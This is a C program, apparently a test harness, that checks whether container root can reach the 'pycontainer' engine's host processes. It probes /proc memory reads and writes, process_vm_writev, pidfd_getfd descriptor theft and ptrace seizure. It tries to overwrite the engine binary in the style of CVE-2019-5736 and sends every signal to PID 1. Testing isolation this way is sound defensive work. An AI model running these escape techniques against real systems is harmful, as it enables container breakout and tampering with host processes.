/* Container root with all its capabilities against the processes of the engine that it can see: PID 1 and who supervises an exec,
 * at every moment of their lives. Says what it tried, and what it won.
 *
 *   attack loop ADDRESS BYTES   until /tmp/stop is there: goes through /proc, and asks for the numbers that come next
 *   attack own                  what a command has that it was not given: one line each
 *   attack careless ADDRESS BYTES SECONDS
 *                               what the engine must not be: a dumpable process in a program of its own, with BYTES at ADDRESS,
 *                               a socket and a directory, that becomes another program after SECONDS
 *
 * BYTES, in hexadecimal, are what lies at ADDRESS in the engine's own memory, so that a stale descriptor shows too. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#define ENGINE "pycontainer"

enum kind { MEM, MEM_WRITE, MAPS, ENVIRON, FD, FD_OPEN, EXE, EXE_WRITE, CWD, ROOT, SEIZE, READV, WRITEV, GETFD, KINDS };
static const char *names[KINDS] = { "mem", "mem write", "maps", "environ", "fd", "fd open", "exe", "exe write", "cwd", "root",
                                    "seize", "readv", "writev", "getfd" };

/* Of both processes of the loop. */
static struct tally {
    long tried[KINDS], won[KINDS], looks, engines;
    int last;
    char example[KINDS][160];
} *all;

static unsigned char bytes[16];
static int length;
static uint64_t address;
static pid_t self, partner;
static struct stat home;

static void win(enum kind kind, pid_t pid, const char *what)
{
    if (!__sync_fetch_and_add(&all->won[kind], 1))
        snprintf(all->example[kind], sizeof all->example[kind], "pid %d: %s", pid, what);
}

static void tries(enum kind kind) { __sync_fetch_and_add(&all->tried[kind], 1); }

static int is_engine(pid_t pid)
{
    char path[64], comm[32] = "";
    snprintf(path, sizeof path, "/proc/%d/comm", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return 0;
    ssize_t got = read(fd, comm, sizeof comm - 1);
    close(fd);
    return got > 0 && !strncmp(comm, ENGINE, strlen(ENGINE));
}

static int matches(const void *found, ssize_t got) { return length && got == length && !memcmp(found, bytes, length); }

/* No command is given these. */
static int foreign(const char *link)
{
    return !strncmp(link, "socket:", 7) || strstr(link, "memfd:") || !strncmp(link, "anon_inode:", 11) || strstr(link, ENGINE);
}

static void look_at_descriptor(enum kind kind, pid_t pid, int fd)
{
    char path[64], own[64], link[128] = "";
    struct stat seen;
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    if (readlink(path, link, sizeof link - 1) < 0 || fstat(fd, &seen))
        return;
    snprintf(own, sizeof own, "/proc/%d/fd", pid); /* of "attack own", which looks at itself */
    if (!strcmp(link, own))
        return;
    if (foreign(link) || (S_ISDIR(seen.st_mode) && (seen.st_dev != home.st_dev || seen.st_ino != home.st_ino)))
        win(kind, pid, link);
}

static int at(pid_t pid, const char *name, int flags)
{
    char path[300];
    snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
    return open(path, flags | O_CLOEXEC | O_NONBLOCK);
}

static void read_memory(pid_t pid)
{
    unsigned char found[16];
    char text[4096];
    int fd, engine = is_engine(pid);

    for (enum kind kind = MEM; kind <= MEM_WRITE; kind++) {
        tries(kind);
        if ((fd = at(pid, "mem", kind == MEM ? O_RDONLY : O_RDWR)) < 0)
            continue;
        if (matches(found, pread(fd, found, length, address)) || (engine && is_engine(pid)))
            win(kind, pid, names[kind]);
        close(fd);
    }
    for (enum kind kind = MAPS; kind <= ENVIRON; kind++) {
        tries(kind);
        if ((fd = at(pid, names[kind], O_RDONLY)) < 0)
            continue;
        ssize_t got = read(fd, text, sizeof text - 1);
        if (got > 0 && ((engine && is_engine(pid)) || memmem(text, got, ENGINE, strlen(ENGINE))))
            win(kind, pid, names[kind]);
        close(fd);
    }
    for (enum kind kind = READV; kind <= WRITEV; kind++) {
        struct iovec here = { found, length }, there = { (void *)address, length };
        tries(kind);
        if (kind == WRITEV) /* what is there already, so that a control lives on */
            memcpy(found, bytes, length);
        ssize_t got = (kind == READV ? process_vm_readv : process_vm_writev)(pid, &here, 1, &there, 1, 0);
        if (length && (kind == READV ? matches(found, got) : got == length && engine && is_engine(pid)))
            win(kind, pid, names[kind]);
    }
}

static void read_links(pid_t pid)
{
    static const struct { const char *name; enum kind kind; } links[] = { { "cwd", CWD }, { "root", ROOT }, { "exe", EXE } };
    char name[300], link[160];

    for (size_t i = 0; i < sizeof links / sizeof *links; i++) {
        tries(links[i].kind);
        int fd = at(pid, links[i].name, links[i].kind == EXE ? O_RDONLY : O_PATH | O_DIRECTORY);
        if (fd < 0)
            continue;
        long before = all->won[EXE];
        look_at_descriptor(links[i].kind, pid, fd);
        /* CVE-2019-5736: once nobody runs it any more it can be written. */
        for (int round = 0; links[i].kind == EXE && all->won[EXE] > before && round < 300; round++) {
            tries(EXE_WRITE);
            snprintf(name, sizeof name, "/proc/self/fd/%d", fd);
            int again = open(name, O_WRONLY | O_CLOEXEC);
            if (again >= 0) {
                win(EXE_WRITE, pid, "opened for writing");
                close(again);
                break;
            }
            usleep(1000);
        }
        close(fd);
    }
    tries(EXE_WRITE);
    int fd = at(pid, "exe", O_WRONLY);
    if (fd >= 0) {
        look_at_descriptor(EXE_WRITE, pid, fd);
        close(fd);
    }
    tries(FD);
    snprintf(name, sizeof name, "/proc/%d/fd", pid);
    DIR *directory = opendir(name);
    for (struct dirent *entry; directory && (entry = readdir(directory));) {
        ssize_t got = readlinkat(dirfd(directory), entry->d_name, link, sizeof link - 1);
        if (got > 0) {
            link[got] = 0;
            if (foreign(link))
                win(FD, pid, link);
        }
    }
    if (directory)
        closedir(directory);
    for (int number = 0; number < 12; number++) {
        tries(FD_OPEN);
        snprintf(name, sizeof name, "fd/%d", number);
        if ((fd = at(pid, name, O_PATH)) >= 0) {
            look_at_descriptor(FD_OPEN, pid, fd);
            close(fd);
        }
    }
}

static void take_descriptors(pid_t pid)
{
    int pidfd = syscall(SYS_pidfd_open, pid, 0);
    if (pidfd < 0)
        return;
    for (int number = 0; number < 12; number++) {
        tries(GETFD);
        int fd = syscall(SYS_pidfd_getfd, pidfd, number, 0);
        if (fd >= 0) {
            look_at_descriptor(GETFD, pid, fd);
            close(fd);
        }
    }
    close(pidfd);
}

/* Who can be traced as soon as it has become the command is nobody's secret; the engine's memory would be one. */
static void trace(pid_t pid)
{
    int status, engine = is_engine(pid);
    tries(SEIZE);
    if (ptrace(PTRACE_SEIZE, pid, 0, 0))
        return;
    ptrace(PTRACE_INTERRUPT, pid, 0, 0);
    if (waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status)) {
        long word = ptrace(PTRACE_PEEKTEXT, pid, (void *)address, 0);
        if ((length >= (int)sizeof word && !memcmp(&word, bytes, sizeof word)) || (engine && is_engine(pid)))
            win(SEIZE, pid, "traced");
        if (ptrace(PTRACE_DETACH, pid, 0, 0)) /* killed meanwhile: its end is ours to wait for first */
            waitpid(pid, &status, __WALL);
    }
}

static void strike(pid_t pid)
{
    if (pid == self || pid == partner || pid == getppid() || syscall(SYS_kill, pid, 0))
        return;
    if (is_engine(pid))
        __sync_fetch_and_add(&all->engines, 1);
    __sync_fetch_and_add(&all->looks, 1);
    read_memory(pid);
    read_links(pid);
    take_descriptors(pid);
    trace(pid);
    if (pid == 1)
        for (int number = 1; number < 65; number++)
            syscall(SYS_kill, 1, number);
}

/* All that is there. */
static void go_round(void)
{
    DIR *directory = opendir("/proc");
    for (struct dirent *entry; (entry = readdir(directory));) {
        int pid = atoi(entry->d_name);
        if (pid > all->last)
            all->last = pid;
        if (pid > 0)
            strike(pid);
    }
    closedir(directory);
}

/* What comes next: pids are given out one after the other, and a process that a look at /proc finds has lived for a while. */
static void lie_in_wait(void)
{
    for (int round = 0; round < 2000; round++)
        for (int ahead = 0; ahead < 6; ahead++) {
            int pid = all->last + ahead;
            if (pid > 1 && !syscall(SYS_kill, pid, 0)) {
                strike(pid);
                all->last = pid + 1;
            }
        }
}

static int loop(void)
{
    all = mmap(NULL, sizeof *all, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    stat("/", &home);
    partner = fork();
    self = getpid();
    int waits = !partner;
    if (waits)
        partner = getppid();
    if (!waits)
        puts("ready"), fflush(stdout);
    while (access("/tmp/stop", F_OK))
        waits ? lie_in_wait() : go_round();
    if (waits)
        _exit(0);
    waitpid(partner, NULL, __WALL);
    printf("{\"looks\": %ld, \"engines\": %ld, \"tried\": {", all->looks, all->engines);
    for (int kind = 0; kind < KINDS; kind++)
        printf("%s\"%s\": %ld", kind ? ", " : "", names[kind], all->tried[kind]);
    printf("}, \"won\": {");
    for (int kind = 0, any = 0; kind < KINDS; kind++)
        if (all->won[kind])
            printf("%s\"%s\": \"%ld, first %s\"", any++ ? ", " : "", names[kind], all->won[kind], all->example[kind]);
    puts("}}");
    return 0;
}

/* Its three streams, and the one with which it looks. */
static int own(void)
{
    char link[256];
    DIR *directory = opendir("/proc/self/fd");
    for (struct dirent *entry; (entry = readdir(directory));) {
        int number = atoi(entry->d_name);
        ssize_t got = readlinkat(dirfd(directory), entry->d_name, link, sizeof link - 1);
        if (got < 0 || (number > 2 && number == dirfd(directory)))
            continue;
        link[got] = 0;
        if (number > 2 || foreign(link))
            printf("descriptor %d is %s\n", number, link);
    }
    ssize_t got = readlink("/proc/self/exe", link, sizeof link - 1);
    link[got < 0 ? 0 : got] = 0;
    if (strcmp(link, "/bin/attack"))
        printf("program is %s\n", link);
    return 0;
}

static int careless(const char *seconds)
{
    char name[32], program[65536];
    int pair[2], copy = syscall(SYS_memfd_create, "pycontainer-careless", 0), from = open("/proc/self/exe", O_RDONLY);
    if (!getenv("COPIED")) {
        for (ssize_t got; (got = read(from, program, sizeof program)) > 0;)
            if (write(copy, program, got) != got)
                return 1;
        snprintf(name, sizeof name, "/proc/self/fd/%d", copy);
        int readable = open(name, O_RDONLY | O_CLOEXEC);
        close(copy);
        char at_hex[32], bytes_hex[64] = "";
        snprintf(at_hex, sizeof at_hex, "%lx", (unsigned long)address);
        for (int i = 0; i < length; i++)
            sprintf(bytes_hex + 2 * i, "%02x", bytes[i]);
        char *argv[] = { "attack", "careless", at_hex, bytes_hex, (char *)seconds, NULL }, *env[] = { "COPIED=1", NULL };
        syscall(SYS_execveat, readable, "", argv, env, AT_EMPTY_PATH);
        return 1;
    }
    unsigned char *page = mmap((void *)(address & ~4095UL), 8192, PROT_READ | PROT_WRITE,
                               MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
    if (page == MAP_FAILED || socketpair(AF_UNIX, SOCK_STREAM, 0, pair) || chdir("/proc"))
        return 1;
    memcpy((void *)address, bytes, length);
    int comm = open("/proc/self/comm", O_WRONLY);
    if (write(comm, ENGINE, strlen(ENGINE)) < 0)
        return 1;
    close(comm);
    usleep(atof(seconds) * 1e6);
    execl("/bin/true", "true", NULL);
    return 1;
}

int main(int argc, char **argv)
{
    if (argc == 2 && !strcmp(argv[1], "own"))
        return own();
    if (argc < 4)
        return 2;
    address = strtoull(argv[2], NULL, 16);
    for (length = 0; length < 16 && argv[3][2 * length]; length++)
        sscanf(argv[3] + 2 * length, "%2hhx", &bytes[length]);
    return strcmp(argv[1], "careless") ? loop() : careless(argv[4]);
}
